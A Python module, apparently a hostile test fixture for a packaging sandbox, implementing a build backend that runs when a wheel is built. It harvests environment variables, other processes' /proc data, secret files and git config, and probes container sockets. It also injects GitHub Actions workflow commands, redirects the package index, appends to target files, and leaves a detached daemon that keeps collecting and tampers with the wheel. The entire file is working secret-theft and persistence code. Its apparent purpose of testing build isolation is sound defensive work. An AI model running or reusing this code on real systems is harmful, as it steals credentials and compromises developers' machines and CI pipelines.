"""A build backend that searches for secrets, and writes its findings into the wheel, as `loot.json`.

It searches common places, and the paths in the file `targets.json` beside it, if that exists: `read` (files and
folders), `write` (files to change), `report` (the file for the later findings of the daemon).
It does no other harm, and all its processes end within seconds.
"""
# It uses os for paths, as such programs do.
# ruff: noqa: PTH100, PTH108, PTH111, PTH113, PTH115, PTH118, PTH123, PTH208, T201

import contextlib
import ctypes
import json
import os
import pathlib
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from typing import Any

Loot = dict[str, Any]

HERE = pathlib.Path(__file__).parent
LARGEST = 64 * 1024
PLACES = ["/root", "/github", "/home", "/workspace", "/var/run/act", "/run/secrets", "/proc/1/root/root", "~", ".."]
SOCKETS = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]
COMMANDS = [
    "::add-mask::attacker",
    "::set-output name=published::true",
    "::save-state name=attacked::yes",
    "::warning::attacked",
    "::stop-commands::attacker",
    "::attacker::",
    "::resume-logging::",
    "##[set-output name=published;]true",
    "##[add-path]/attacker",
    "::set-env name=PATH::/attacker",
    "  ::error::attacked",
    "\r::notice::attacked",
    "text before ::notice::attacked",
]


def build_wheel(wheel_directory: str, _config_settings: object = None, _metadata_directory: str | None = None) -> str:
    for stream in (sys.stdout, sys.stderr):
        print("\n".join(COMMANDS), file=stream, flush=True)
    with contextlib.suppress(OSError):
        pathlib.Path("/tmp/uv.toml").write_text('index-url = "http://127.0.0.1:1/attacker/"\n')
    loot = hunt() | {"written": write()}
    with contextlib.suppress(OSError):
        os.unlink("/tmp/uv.toml")
    name = "attacker-1.0-py3-none-any.whl"
    wheel = pathlib.Path(wheel_directory, name)
    pack(wheel, loot)
    leave_daemon(wheel)
    return name


def build_sdist(_sdist_directory: str, _config_settings: object = None) -> str:
    raise RuntimeError("the attacker makes wheels only")


def pack(wheel: pathlib.Path, loot: Loot) -> None:
    info = "attacker-1.0.dist-info"
    files = {
        "loot.json": json.dumps(loot),
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: attacker\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: attacker\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{name},,\n" for name in [*files, f"{info}/RECORD"])
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in {**files, f"{info}/RECORD": record}.items():
            archive.writestr(name, text)


def targets() -> Loot:
    found: Loot = {}
    with contextlib.suppress(OSError):
        found = json.loads((HERE / "targets.json").read_text())
    return found


def hunt() -> Loot:
    return {
        "user": {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()},
        "environment": dict(os.environ),
        "processes": processes(),
        "sockets": [path for path in SOCKETS if connects(path)],
        "files": files(),
        "git": git(),
        "terminal": readable("/dev/tty"),
    }


def processes() -> Loot:
    """Return the data that can be read from processes of other sessions."""
    found: Loot = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if int(pid) == os.getpid() or os.getsid(int(pid)) == os.getsid(0):
                continue
        spoils: Loot = {}
        for name in ("environ", "mem", "maps"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as stream:
                spoils[name] = "open" if name == "mem" else stream.read(LARGEST).decode(errors="replace")
        with contextlib.suppress(OSError):
            spoils["descriptors"] = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        with contextlib.suppress(OSError):
            spoils["cwd"] = os.readlink(f"/proc/{pid}/cwd")
        if any(spoils.values()):
            spoils["command"] = readable(f"/proc/{pid}/cmdline")
            found[pid] = spoils
    return found


def connects(path: str) -> bool:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        client.connect(path)
        return True
    return False


def files() -> Loot:
    """Return the text of every readable small file in the places where secrets are usual."""
    found: Loot = {}
    for guess in [*PLACES, *targets().get("read", [])]:
        place = os.path.abspath(os.path.expanduser(guess))
        for path in [place] if os.path.isfile(place) else walk(place):
            text = readable(path)
            if text is not None:
                found[path] = text
    return found


def walk(place: str) -> Iterator[str]:
    seen = 0
    for folder, folders, names in os.walk(place):
        folders[:] = [name for name in folders if name not in {"site-packages", "objects", "node_modules", "pycache"}]
        for name in names:
            seen += 1
            if seen > 2000:
                return
            yield os.path.join(folder, name)


def readable(path: str) -> str | None:
    with contextlib.suppress(OSError):
        if not os.path.isfile(path) and not path.startswith(("/proc/", "/dev/tty")):
            return None
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with os.fdopen(descriptor, "rb") as stream:
            return stream.read(LARGEST).decode(errors="replace")
    return None


def git() -> str:
    with contextlib.suppress(OSError, subprocess.TimeoutExpired):
        done = subprocess.run(
            ["git", "config", "--list", "--show-origin"],
            capture_output=True,
            text=True,
            timeout=10,
            cwd=HERE,
            check=False,
        )
        return done.stdout
    return ""


def write() -> list[str]:
    """Try to change the targets, and return those that changed."""
    changed: list[str] = []
    for path in targets().get("write", []):
        with contextlib.suppress(OSError), open(path, "a") as stream:
            stream.write("attacked=yes\n")
            changed.append(path)
    return changed


def leave_daemon(wheel: pathlib.Path) -> None:
    """Start a process that outlives its session, keeps the output open, searches again, and changes the wheel."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    with contextlib.suppress(OSError, AttributeError):
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE: now root owns its files in /proc
    report = targets().get("report")
    for tick in range(100):
        time.sleep(0.1)
        with contextlib.suppress(OSError):
            print("::set-output name=published::later", flush=True)
        with contextlib.suppress(OSError):
            if tick > 20:
                wheel.write_bytes(b"changed later")
        with contextlib.suppress(OSError):
            if report:
                later = {"processes": processes(), "written": write()}
                with open(report, "a") as stream:
                    stream.write(json.dumps(later) + "\n")
    os._exit(0)
